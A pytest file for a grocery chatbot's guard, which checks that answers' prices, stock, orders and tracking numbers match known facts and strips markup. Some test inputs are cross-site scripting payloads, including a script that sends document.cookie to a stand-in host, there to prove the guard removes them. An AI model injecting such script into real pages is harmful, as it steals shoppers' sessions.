"""Grounding: every price, stock count, order number, tracking number and date an answer states is one of
the turn's facts, and the one of the item the sentence names."""

from __future__ import annotations

from decimal import Decimal

from bot.assistant.grounding import check
from bot.assistant.prompt import TurnContext
from bot.assistant.tools.base import ToolResult
from retrieval.schema import Product
from retrieval.store import OrderLine, OrderView


def product(pid: str, name: str, price: str, stock: int) -> Product:
    return Product(id=pid, name=name, category="Dairy", price=Decimal(price), stock=stock, tags="")


def order(oid: str, tracking: str | None, placed: str, delivered: str | None = None, status: str = "delivered"):
    lines = (OrderLine("P1", "Oat Milk", 2, 3.49),)
    return OrderView(oid, placed, status, "UPS" if tracking else None, tracking, None, delivered, lines)


def context() -> TurnContext:
    return TurnContext(
        products=[product("P1", "Oat Milk", "3.49", 12), product("P2", "Skim Milk", "2.19", 0)],
        orders=[
            order("5302", None, "2026-11-25 09:00", status="placed"),
            order("5245", "1ZG7B4020264647640", "2026-11-20 10:00", "2026-11-24 15:00"),
        ],
        foreign_orders=["4794"],
    )


def kinds(answer: str) -> list[tuple[str, str]]:
    return [(f.kind, f.text) for f in check(answer, context())]


def test_an_answer_from_the_facts_has_no_findings():
    assert kinds("The Oat Milk costs $3.49 and is in stock. The Skim Milk is out of stock.") == []
    assert kinds("Order 5245 was delivered on 2026-11-24. Tracking number: 1ZG7B4020264647640.") == []
    assert kinds("I can't find order 4794 on your account. I can only share your own orders.") == []


def test_a_price_no_fact_has_is_found():
    assert kinds("The Kimchi Chips cost $3.99.") == [("price", "$3.99")]


def test_a_stock_count_said_of_a_product_the_turn_never_read_is_found():
    assert kinds("Yes, the Duck Breast is in stock (22 available).") == [("product", "in stock (22 available)")]
    assert kinds("Yes, the Oat Milk is in stock (12 available).") == []


def test_a_neighbouring_products_price_is_found():
    assert kinds("The Skim Milk costs $3.49.") == [("price", "$3.49")]


def test_a_count_for_an_out_of_stock_product_or_the_wrong_count_is_found():
    assert kinds("The Skim Milk is in stock (32 available).") != []
    assert kinds("The Oat Milk is in stock (30).") == [("stock", "in stock (30)")]


def test_in_stock_said_of_an_out_of_stock_product_is_found_and_made_out_of_stock():
    assert kinds("Yes, the Skim Milk is in stock (out of stock).") == [("stock", "in stock (out of stock)")]
    assert kinds("Yes, the Skim Milk is in stock.") == [("stock", "in stock")]
    assert kinds("Sorry, the Skim Milk is out of stock right now.") == []
    assert kinds("The Skim Milk is not in stock.") == []
    assert kinds("Yes, the Oat Milk is in stock.") == []


def test_the_previous_orders_tracking_number_on_the_newest_order_is_found():
    found = kinds("Order 5302 is on its way, tracking number 1ZG7B4020264647640.")
    assert found == [("tracking", "1ZG7B4020264647640")]


def test_an_invented_tracking_number_or_order_is_found():
    assert kinds("Your tracking number is GBC-261109-02330.") == [("tracking", "GBC-261109-02330")]
    assert kinds("Order 9999 was shipped.") == [("order", "9999")]


def test_another_shoppers_order_given_facts_is_found():
    found = kinds("Order 4794 was delivered on 2026-11-24. Tracking number: 1ZG7B4020264647640.")
    assert ("order", "4794") in found


def test_a_date_of_another_order_is_found():
    assert kinds("Order 5302 was delivered on 2026-11-24.") == [("date", "2026-11-24")]


def test_facts_in_tool_results_and_policies_count():
    ctx = context()
    ctx.tool_results.append(("search_products", ToolResult("x", [{"name": "Feta", "price": 5.99}])))
    assert check("We have Feta for $5.99.", ctx) == []


def test_each_clause_of_a_comparison_is_held_to_its_own_product():
    ctx = context()
    ctx.products.append(
        Product(id="P3", name="Oat Milk", brand="Oatfield", category="Dairy", price=Decimal("2.99"), stock=5, tags="")
    )
    assert check("The Oat Milk is cheaper at $2.99; the Oatfield Oat Milk costs $2.99.", ctx) == []
    assert [f.text for f in check("The Oat Milk is cheaper at $2.99; the Oatfield Oat Milk costs $3.49.", ctx)] == [
        "$3.49"
    ]


def test_products_found_by_a_search_are_named_products_too():
    ctx = context()
    ctx.tool_results.append(
        ("search_products", ToolResult("x", [{"name": "Skim Milk", "brand": "Brookfield", "price": 4.79}]))
    )
    assert check("Here are some: Oat Milk ($3.49) and Skim Milk ($4.79).", ctx) == []


def guarded(ctx, pieces, internal=None):
    from bot.assistant.grounding import Guard

    guard = Guard(ctx, internal)
    shown = [guard.feed(p) for p in pieces] + [guard.finish()]
    return shown, guard.corrections


def oat_milk(price="3.49", stock=0):
    return Product(id="P1", name="Oat Milk", brand="Oatbury", category="Milk", price=Decimal(price), stock=stock)


def test_the_guard_streams_words_before_a_fact_and_holds_the_fact_until_its_sentence_is_checked():
    ctx = TurnContext(products=[oat_milk(stock=12)])
    shown, corrections = guarded(ctx, ["The ", "Oatbury Oat", " Milk costs ", "$3", ".49", ". ", "Enjoy!"])
    assert shown[:3] == ["The ", "Oatbury Oat", " Milk costs "]  # out as they come, before the sentence ends
    assert shown[3:5] == ["", ""]  # the price is held until its sentence is checked
    assert "".join(shown) == "The Oatbury Oat Milk costs $3.49. Enjoy!" and corrections == []


def test_a_wrong_price_or_a_count_for_a_product_out_of_stock_is_replaced_by_the_facts():
    ctx = TurnContext(products=[oat_milk(price="3.49", stock=0)])
    shown, corrections = guarded(ctx, ["The Oatbury Oat Milk costs $4.99 and is in stock (32). "])
    assert "".join(shown) == "The Oatbury Oat Milk costs $3.49 and is out of stock. "
    assert [c.kind for c in corrections] == ["price", "stock"]


def test_a_fact_the_turn_cannot_back_becomes_a_plain_i_cannot_confirm():
    from bot.assistant.grounding import UNSURE

    shown, corrections = guarded(TurnContext(), ["The Kimchi Chips cost ", "$3.99. ", "Anything else?"])
    assert "".join(shown) == f"The Kimchi Chips cost — {UNSURE} Anything else?"
    assert [c.kind for c in corrections] == ["price"]


def test_another_orders_tracking_number_is_replaced_by_the_asked_orders_own():
    ctx = TurnContext(orders=[order("5302", "1ZNEWER0000000001", "2026-11-25"), context().orders[1]])
    shown, corrections = guarded(ctx, ["Order 5302 has tracking number 1ZG7B4020264647640. "])
    assert "".join(shown) == "Order 5302 has tracking number 1ZNEWER0000000001. "
    assert [c.kind for c in corrections] == ["tracking"]


def test_a_word_that_may_begin_an_internal_name_waits_for_its_end():
    shown, _ = guarded(TurnContext(), ["I can ", "search", "_products", " for you."], {"search_products": "s p"})
    assert shown[:2] == ["I can ", ""] and "".join(shown) == "I can s p for you."


def test_markup_and_internal_names_never_reach_the_shopper():
    shown, corrections = guarded(
        TurnContext(),
        ["<P0012>Skim Milk is here. ", "I can use search", "_products for you. ", "<script>x</script>"],
        {"search_products": "search products"},
    )
    assert "".join(shown) == "Skim Milk is here. I can use search products for you. "
    assert {c.kind for c in corrections} == {"markup", "internal"}


def test_a_fact_is_checked_and_shown_once_a_few_words_follow_it_not_only_at_the_sentence_end():
    ctx = TurnContext(products=[oat_milk(price="3.49", stock=12)])
    pieces = [
        "The Oatbury Oat Milk ",
        "is in ",
        "stock (12 ",
        "available) ",
        "and ",
        "costs ",
        "$4.99 ",
        "a ",
        "carton ",
        "now.",
    ]
    shown, corrections = guarded(ctx, pieces)
    assert shown[:2] == ["The Oatbury Oat Milk ", "is "]
    assert shown[5] == "in stock (12 available) and costs "  # settled three words on: checked, shown
    assert "".join(shown) == "The Oatbury Oat Milk is in stock (12 available) and costs $3.49 a carton now."
    assert [c.kind for c in corrections] == ["price"]


def test_script_and_style_elements_are_dropped_with_their_code_even_split_across_pieces():
    pieces = [
        "Sure! <scr",
        "ipt>fetch('//evil.example?c='",
        "+document.cookie)</scr",
        "ipt>Oat milk is here.",
        "<style>p{}</style>",
    ]
    shown, corrections = guarded(TurnContext(), pieces)
    assert "".join(shown) == "Sure! Oat milk is here."
    assert {c.kind for c in corrections} == {"markup"}


def test_a_tag_with_attributes_spanning_sentences_is_removed_whole():
    pieces = ['Look. <img src="x.png" onerror="alert(1)"> ', "Thanks. <a href='javascript:alert(1)'>click</a>"]
    shown, _ = guarded(TurnContext(), pieces)
    assert "".join(shown) == "Look.  Thanks. click"


def test_an_unclosed_code_element_is_dropped_to_the_end_of_the_answer():
    shown, _ = guarded(TurnContext(), ["Here you go: ", "<script>", "while(1){}", " and more"])
    assert "".join(shown).strip() == "Here you go:"


def test_a_less_than_sign_in_words_is_kept():
    shown, corrections = guarded(TurnContext(), ["Everything under <", " 5 items ships free <3"])
    assert "".join(shown) == "Everything under < 5 items ships free <3"
    assert corrections == []
